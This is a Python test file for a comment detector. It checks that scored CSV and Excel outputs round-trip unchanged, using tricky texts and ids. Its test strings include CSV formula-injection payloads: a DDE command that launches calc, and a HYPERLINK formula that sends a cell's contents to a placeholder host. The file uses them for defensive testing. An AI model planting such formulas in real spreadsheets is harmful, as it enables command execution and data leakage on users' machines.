"""What was scored is scored again from what was written: every text, id and verdict comes back; nothing is run."""

from __future__ import annotations

import csv
import json
import os
import shutil
import subprocess
from pathlib import Path

import pytest

from detector.readers import read_comments
from tests.calling import call
from tests.models import handmade_bundle, saved

# Everything that a spreadsheet, a shell or a careless reader could take for something else than words.
TEXTS = (
    "=cmd|' /C calc'!A0", "=1+2", '=HYPERLINK("http://x.example/?"&A1,"点我")', "@SUM(1,2)", "@主播", "+1", "-2+3",
    "=_=", "-", "＝1＋2", "＠主播 加V", "'=1+2", "''", "'好看", "\t=1+1", "\r\n=1+1", " 前面有空格", "后面有空格  ",
    "两行\n第二行", "老式\r\n换行", "制\t表", '他说"好看"', '"', '""', "逗号,分号;竖线|", "👋🏽好👨‍👩‍👧", "ＡＢＣ　１２３", "0012",
    "1e5", "TRUE", "2026-11-11", "12:30", "NULL", "NaN", "None", "加微 abc88888", "微刷", "１＋１", "3.10", "007",
)  # fmt: skip
IDS = ("0001", "7234567890123456789", "7234567890123456790", "1e10", "0x1F", "=u1", "@u2", "u,3", "00", "+86")
# What a workbook's XML does not tell apart, or cannot hold.
NO_CR = [text for text in TEXTS if "\r" not in text]


@pytest.fixture(scope="module")
def model(tmp_path_factory: pytest.TempPathFactory) -> Path:
    return saved(handmade_bundle(), tmp_path_factory.mktemp("model"))


def room(path: Path, texts: tuple[str, ...] | list[str] = TEXTS) -> Path:
    rows = [
        {
            "comment_id": f"{n:019d}", "user_id": IDS[n % len(IDS)], "昵称": f"=名{n}", "text": text,
            "time": f"2026-11-11 20:{n // 60:02}:{n % 60:02}", "备注": TEXTS[-1 - n % 8],
        }
        for n, text in enumerate(texts)
    ]  # fmt: skip
    path.write_text("".join(json.dumps(row, ensure_ascii=False) + "\n" for row in rows), encoding="utf-8")
    return path


def cells(path: Path) -> list[dict[str, str]]:
    with path.open(encoding="utf-8-sig", newline="") as file:
        return list(csv.DictReader(file))


RESULTS = ("verdict", "label", "risk", "p_solicitation", "p_bot_flood", "p_fake_review", "reasons")


def scored(capsys: pytest.CaptureFixture[str], model: Path, source: Path, out: Path, *more: str) -> Path:
    done = call(capsys, "score", source, "-o", out, "--model", model, "-q", *more)
    assert (done.code, done.err) == (0, "")
    return out


@pytest.mark.parametrize("flavor", ["raw", "excel"])
def test_scored_csv_is_scored_again_to_the_same(
    tmp_path: Path, model: Path, capsys: pytest.CaptureFixture[str], flavor: str
) -> None:
    once = scored(capsys, model, room(tmp_path / "room.jsonl"), tmp_path / "once", "--csv-flavor", flavor)
    twice = scored(capsys, model, once / "scored.csv", tmp_path / "twice")
    original, _ = read_comments(tmp_path / "room.jsonl")
    again, _ = read_comments(once / "scored.csv")
    assert again.text == original.text == list(TEXTS)
    assert again.user_id == original.user_id
    assert again.comment_id == original.comment_id
    assert again.ts_ms.tolist() == original.ts_ms.tolist()
    first, second = cells(once / "scored.csv"), cells(twice / "scored.csv")
    assert [[row[name] for name in RESULTS] for row in first] == [
        [row[name] for name in RESULTS] for row in second
    ]
    assert len({row["verdict"] for row in first}) > 1
    # The columns of the first run stand beside those of the second.
    assert [row["verdict_in"] for row in second] == [row["verdict"] for row in first]


def test_scored_xlsx_is_scored_again_to_the_same(
    tmp_path: Path, model: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    once = scored(capsys, model, room(tmp_path / "room.jsonl", NO_CR), tmp_path / "once")
    twice = scored(capsys, model, once / "scored.xlsx", tmp_path / "twice")
    original, _ = read_comments(tmp_path / "room.jsonl")
    again, _ = read_comments(once / "scored.xlsx")
    assert again.text == original.text == NO_CR
    assert (again.user_id, again.comment_id) == (original.user_id, original.comment_id)
    first, second = cells(once / "scored.csv"), cells(twice / "scored.csv")
    assert [(row["verdict"], row["label"], row["reasons"]) for row in first] == [
        (row["verdict"], row["label"], row["reasons"]) for row in second
    ]


def opened_in_a_spreadsheet(path: Path, folder: Path) -> list[list[str]]:
    """What LibreOffice shows of the first sheet, every cell as it is displayed."""
    office = shutil.which("soffice")
    if office is None:
        pytest.skip("LibreOffice is not here")
    # Text table: comma, double quote, UTF-8, from line 1; then written likewise with cells as shown.
    reading = ["--infilter=CSV:44,34,76,1,,0,false,true,false"] if path.suffix == ".csv" else []
    subprocess.run(
        [
            office, "--headless", f"-env:UserInstallation=file://{folder / 'profile'}", *reading,
            "--convert-to", "csv:Text - txt - csv (StarCalc):44,34,76,1,,0,false,true,false,false,false,1",
            "--outdir", str(folder / "shown"), str(path),
        ],
        check=True, capture_output=True, timeout=180, env={**os.environ, "HOME": str(folder)},
    )  # fmt: skip
    (written,) = (folder / "shown").glob("*.csv")
    with written.open(encoding="utf-8-sig", newline="") as file:
        return list(csv.reader(file))


DANGEROUS = [text for text in TEXTS if text.strip() and text.strip()[0] in "=+-@＝＠'"]
